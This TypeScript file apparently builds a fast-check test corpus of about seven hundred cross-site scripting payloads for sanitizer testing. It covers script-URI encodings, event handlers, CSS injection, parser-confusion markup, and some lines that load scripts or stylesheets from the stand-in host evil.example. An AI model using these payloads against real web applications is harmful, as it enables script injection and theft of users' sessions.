import fc from 'fast-check'

/** Every way to write the scheme of a script address that browsers of some time understood. */
const scriptAddresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'java&#9;script:alert(1)',
  'java&#x0A;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'java&Tab;script&colon;alert&lpar;1&rpar;',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://example.com/x',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example/x',
  '/\t/evil.example/x',
  'http:evil\\@example.com',
]

const addressed = [
  'a href',
  'img src',
  'img srcset',
  'image href',
  'area href',
  'form action',
  'button formaction',
  'input type=image src',
  'iframe src',
  'embed src',
  'object data',
  'base href',
  'link rel=stylesheet href',
  'video poster',
  'video src',
  'audio src',
  'source srcset',
  'track src',
  'body background',
  'table background',
  'q cite',
  'a ping',
  'svg:use href',
  'animate values',
]

const handlers =
  'onclick onerror onload onfocus onblur onmouseover onpointerenter onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle onbegin onend onwheel onscroll onscrollend oncut oncopy onpaste onhashchange onpageshow onmessage onstart onauxclick oncontentvisibilityautostatechange ONCLICK oNeRrOr'.split(
    ' ',
  )

const hosts =
  'p a img span strong li h1 div svg math body details video marquee input custom-tag'.split(' ')

const styles = [
  'background:url(javascript:alert(1))',
  'background-image:url(https://evil.example/x)',
  'color:url(https://evil.example/x)',
  'color:expression(alert(1))',
  'color:red;position:fixed;inset:0;z-index:9',
  'width:100vw;height:100vh',
  '-moz-binding:url(//evil.example/x.xml#y)',
  'behavior:url(x.htc)',
  '@import "//evil.example/x.css"',
  'color:\\72 ed;background\\-image:u\\rl(x)',
  'color:/**/expression(/**/alert(1))',
  'color:var(--x, url(//evil.example))',
  'background-color:image-set("//evil.example")',
  'color:red}body{background:url(//evil.example)',
  'font-family:"x;color:red;\\"',
  'content:"</style><script>alert(1)</script>"',
]

/** Markup that one parser reads otherwise than another, and markup that changes when read again. */
const confusion = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href=data:,alert(1) />',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=alert(1)>">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!doctype html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;',
  '<img src=x onerror=alert(1)',
  '<img src="x`"`onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x\u000conerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<a href="/x" title="><img src=x onerror=alert(1)>">x</a>',
  "<a href='/x\"onclick=alert(1)//'>x</a>",
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<p>x</p>',
  '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>',
  '<table><tr><td><a href=javascript:alert(1)>x<table><a href=/y>z',
  '<table><caption><img src=x onerror=alert(1)><table>',
  '<b><p><i></b>x</i><img src=x onerror=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=import href=//evil.example>',
  '<base href="javascript:alert(1)//"><a href=x>y</a>',
  '<object data=x><param name=url value=javascript:alert(1)></object>',
  '<embed src=data:image/svg+xml,x>',
  '<applet code=x><img src=x onerror=alert(1)></applet>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)>',
  '<body onload=alert(1)>x',
  '<html manifest=//evil.example><head><script>alert(1)</script></head><body>x',
  '<form id=x></form><button form=x formaction=javascript:alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<img name=cookie><img id=body><form name=getElementById>',
  '<p is=x-evil contenteditable autofocus tabindex=1 accesskey=x popover>x</p>',
  '<__proto__>x</__proto__><constructor>y</constructor><toString z>w</toString>',
  '<style>*{background:url(//evil.example)}</style><p>x</p>',
  '<p style>x</p><p style="">y</p>',
  '\u0000<\u0000script>alert(1)</script>',
  '<\u0000img src=x onerror=alert(1)>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>x</p>',
  '<p>\u2028\u2029\ufeff\ud800</p>',
  '<image src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<ruby><rt><template><s><template><s><img src=x onerror=alert(1)>',
]

/** Some seven hundred attacks: the table of confusions, and every way to attach each of the rest. */
export const attacks = [
  ...confusion,
  ...addressed.flatMap((place) => {
    const [tag, ...attributes] = place.split(' ')
    return scriptAddresses.map((to) => `<${tag} ${attributes.join(' ')}="${to}">x</${tag}>`)
  }),
  ...handlers.map((handler, i) => `<${hosts[i % hosts.length]} ${handler}=alert(1)>x`),
  ...hosts.map((host) => `<${host} onload="alert(1)" OnError='alert(1)' onx=alert(1)>x</${host}>`),
  ...styles.map((style) => `<p style='${style}'>x</p><span style='${style}'>x</span>`),
]

const pieces = fc.oneof(
  fc.constantFrom(...confusion),
  fc
    .constantFrom(...hosts, ...'b i u s ul ol table td p br blockquote'.split(' '))
    .map((tag) => `<${tag}>`),
  fc
    .constantFrom(...hosts, ...'b i u s ul ol table td p blockquote'.split(' '))
    .map((tag) => `</${tag}>`),
  fc.constantFrom('<!--', '-->', ']]>', '"', "'", '>', '<', '&lt;', '&#60', '&amp;lt;', ' ', '\n'),
  fc.constantFrom(
    '<a href="/x">',
    '<a href="/y">',
    '<span style="color:#f00">',
    '<img src="/uploads/a.png">',
  ),
  fc.string({ maxLength: 6 }),
)

/** Pieces of attacks and of good markup in any order, opened and never closed. */
export const hostileHtml = fc.array(pieces, { maxLength: 14 }).map((parts) => parts.join(''))
